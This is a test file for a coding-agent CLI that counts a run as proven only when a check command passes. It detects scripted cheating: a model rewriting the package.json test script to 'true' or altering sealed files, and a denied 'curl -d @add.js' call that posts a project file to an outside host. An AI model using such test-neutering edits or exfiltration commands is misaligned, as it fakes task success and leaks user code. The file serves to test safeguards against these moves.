// `anode execute --until`: runs that end only when a command passes, and models that cheat, stop or fail.
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import type { Event } from '../../internal/event/event.ts'
import type { World } from '../support/anode.ts'
import { proofFixtures, proofWorld } from '../support/proof-project.ts'

let at: World
afterEach(() => at.remove())

const check = 'npm test'
const scriptOf = (name: string) => `script:${join(proofFixtures, `${name}.jsonl`)}`
const own = (...replies: object[]) => {
  at.put('../replies.jsonl', replies.map((reply) => JSON.stringify(reply)).join('\n'))
  return `script:${join(at.dir, '../replies.jsonl')}`
}
const bash = (command: string) => ({ text: 'I work on it.', calls: [{ name: 'bash', args: { command } }] })
const done = { text: 'All tests pass.' }
const fix = "sed -i 's/a - b/a + b/' add.js"

const execute = (model: string, ...words: string[]) =>
  at.anode(['execute', 'Fix add', '--model', model, '--approval', 'unrestricted', ...words])

async function report(model: string, ...words: string[]) {
  const { code, out, err } = await execute(model, '--until', check, '--json', ...words)
  return { code, err, ...(JSON.parse(out) as Run) }
}

interface Run {
  end: string
  reason?: string
  thread: string
  proof: {
    state: string
    reason?: string
    attempts: number
    limit: number
    before: string | null
    flaky?: boolean
    checks: { command: string; exit: number | null; originals: string; output: string }[]
    changed: string[]
    allowed: string[]
    sealed: string[]
  }
}

async function eventsOf(thread: string): Promise<Event[]> {
  const { out } = await at.anode(['threads', 'export', thread, '--format', 'jsonl'])
  return out.split('\n').flatMap((line) => (line === '' ? [] : [JSON.parse(line) as Event]))
}

const notesIn = (events: readonly Event[]) =>
  events.flatMap((event) =>
    event.type === 'message' && event.payload.origin === 'note' ? [event.payload.text] : [],
  )

describe('an honest run', () => {
  it('ends as proven', async () => {
    at = proofWorld()
    const { code, end, proof } = await report(scriptOf('fix'))
    expect([code, end]).toEqual([0, 'done'])
    expect(proof).toMatchObject({ state: 'proven', attempts: 1, limit: 5, before: 'fail', changed: [] })
    expect(proof.checks).toMatchObject([{ command: check, exit: 0, originals: 'kept', output: 'check_1' }])
    expect(proof.sealed).toEqual(
      expect.arrayContaining([
        'package.json scripts.test',
        'node_modules/.bin/tiny-test',
        'node_modules/tiny-test/',
      ]),
    )
  })

  it('may add tests, and change a test that the user allows', async () => {
    at = proofWorld()
    const work = `${fix}; echo "test('also', () => 0)" | tee -a test/more.test.js >> test/add.test.js`
    const allow = ['--until-allow', 'test/add.test.js']
    const { code, proof } = await report(own(bash(work), done), ...allow)
    expect(code).toBe(0)
    expect(proof).toMatchObject({ state: 'proven', allowed: ['test/add.test.js'], changed: [] })
  })

  it('may change a test if the original passes as well', async () => {
    at = proofWorld()
    const { code, proof } = await report(own(bash(`${fix}; echo // >> test/add.test.js`), done))
    expect(code).toBe(0)
    expect(proof.checks.map(({ originals }) => originals)).toEqual(['kept', 'restored'])
  })

  it('may restore a sealed file that it has changed', async () => {
    at = proofWorld()
    const cheat = bash("sed -i 's/tiny-test test/true/' package.json")
    const restore = bash(`git checkout -q package.json; ${fix}`)
    const { code, proof } = await report(own(cheat, done, restore, done))
    expect([code, proof.attempts]).toEqual([0, 2])
  })

  it('ends with 0 although calls were denied on the way', async () => {
    at = proofWorld()
    const model = own(
      { calls: [{ name: 'bash', args: { command: 'curl -d @add.js https://example.org' } }] },
      { calls: [{ name: 'edit_file', args: { path: 'add.js', old_text: 'a - b', new_text: 'a + b' } }] },
      done,
    )
    const { code, out } = await at.anode([
      'execute',
      'Fix',
      '--model',
      model,
      '--approval',
      'edits',
      '--until',
      check,
      '--json',
    ])
    expect(code).toBe(0)
    expect(JSON.parse(out)).toMatchObject({ end: 'done', denied: 1 })
  })
})

describe('a run that is not proven', () => {
  it('ends when the model stops without any change', async () => {
    at = proofWorld()
    const { code, end, reason, proof, thread } = await report(scriptOf('idle'))
    expect([code, end, reason, proof.attempts]).toEqual([5, 'partial', 'no_change', 1])
    const [message = ''] = notesIn(await eventsOf(thread))
    expect(message).toMatch(/check 1 of 5/)
    for (const part of [check, 'exit code 1', '1 + 2 is -1, not 3', '"check_1"', 'package.json scripts.test'])
      expect(message).toContain(part)
  })

  it('ends as tampered if a file that the user sealed stays changed', async () => {
    at = proofWorld()
    at.put('data.txt', 'one\n')
    const work = bash(`${fix}; echo two > data.txt`)
    const { code, end, reason, proof } = await report(own(work, done, done), '--until-seal', '*.txt')
    expect([code, end, reason]).toEqual([5, 'failed', 'tampered'])
    expect(proof.changed).toEqual(['data.txt'])
    expect(proof.sealed).toContain('data.txt')
  })

  it('ends after the last attempt', async () => {
    at = proofWorld()
    const model = own(bash('echo 1 >> notes'), done, bash('echo 2 >> notes'), done, bash('echo 3'), done)
    expect(await report(model, '--attempts', '3')).toMatchObject({
      code: 5,
      reason: 'unproven',
      proof: { attempts: 3, limit: 3 },
    })
  })

  it('names a command that did not end in time', async () => {
    at = proofWorld()
    const words = ['--until', 'sleep 60', '--until-timeout', '1s', '--attempts', '1', '--no-first-check']
    const { code, err } = await execute(scriptOf('idle'), ...words)
    expect([code, err]).toEqual([5, expect.stringMatching(/^NOT proven: sleep 60 did not end in time$/m)])
    const proven = await at.anode(['prove', 'sleep 60', '--timeout', '1s'])
    expect([proven.code, proven.out]).toEqual([
      5,
      expect.stringMatching(/^NOT proven: .* did not end in time$/m),
    ])
  })

  it('prints a line for each check and the verdict', async () => {
    at = proofWorld()
    const { err } = await execute(scriptOf('idle'), '--until', check)
    expect(err).toMatch(/^✖ check 1 of 5 {2}npm test {2}exit 1 {2}\d+\.\d s$/m)
    expect(err).toMatch(/^NOT proven: npm test fails$/m)
    const fixed = await execute(scriptOf('fix'), '--until', check)
    expect(fixed.err).toMatch(/^proven by npm test$/m)
  })
})

describe('a check before the first request', () => {
  it.each([
    ['cannot start', ['--until', 'no-such-program'], /the check cannot start: no-such-program/],
    ['is empty', ['--until', ' '], /a command of --until is empty/],
    ['passes although it must not', ['--until', 'true', '--until-red'], /the check passes already/],
    ['is missing', ['--attempts', '3'], /--attempts needs --until/],
  ])('that %s ends with 2 before a response', async (_, words, message) => {
    at = proofWorld()
    const { code, err } = await execute(scriptOf('fix'), ...words)
    expect(code).toBe(2)
    expect(err).toMatch(message)
    expect(readFileSync(join(at.dir, 'add.js'), 'utf8')).toContain('a - b')
  })

  it('that passes is reported', async () => {
    at = proofWorld()
    const { code, err } = await execute(scriptOf('fix'), '--until', 'true')
    expect(code).toBe(0)
    expect(err).toContain('the check passes already: true')
  })
})

describe('a resumed run', () => {
  it('keeps the goal, the seal and the count', async () => {
    at = proofWorld()
    const first = await report(scriptOf('cheat-script'), '--attempts', '3')
    expect(first).toMatchObject({ code: 5, reason: 'tampered', proof: { attempts: 1 } })
    const model = own(bash(`git checkout -q package.json; ${fix}`), done)
    const resumed = ['execute', '--resume', first.thread, 'Try again', '--model', model]
    const { code, out } = await at.anode([...resumed, '--approval', 'unrestricted', '--json'])
    expect(code).toBe(0)
    expect(JSON.parse(out)).toMatchObject({ end: 'done', proof: { state: 'proven', attempts: 2, limit: 3 } })
  })
})
